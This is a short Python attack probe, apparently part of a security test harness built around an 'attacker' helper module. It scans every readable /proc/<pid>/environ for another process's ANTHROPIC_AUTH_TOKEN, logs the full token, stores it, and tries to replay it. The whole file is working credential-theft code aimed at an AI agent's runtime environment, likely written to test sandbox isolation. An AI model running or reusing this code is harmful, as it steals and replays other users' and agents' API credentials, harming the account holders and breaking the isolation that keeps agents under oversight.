"""Reads the agent's token from the environment of whatever runs, and uses it."""

from pathlib import Path

import attacker


def found() -> str:
    """Return the first token in an environment that this user may read."""
    for process in Path("/proc").glob("[0-9]*"):
        try:
            names = (process / "environ").read_bytes().split(b"\0")
        except OSError:
            continue
        for each in names:
            if each.startswith(b"ANTHROPIC_AUTH_TOKEN=") and process.name != "self":
                attacker.note(f"{process}: {each.decode()}")
                return each.decode().partition("=")[2]
    return ""


token = found()
if token:
    attacker.ran("found a token in an environment")
    attacker.SET["TOKEN"] = token
    attacker.attempt("replayed")
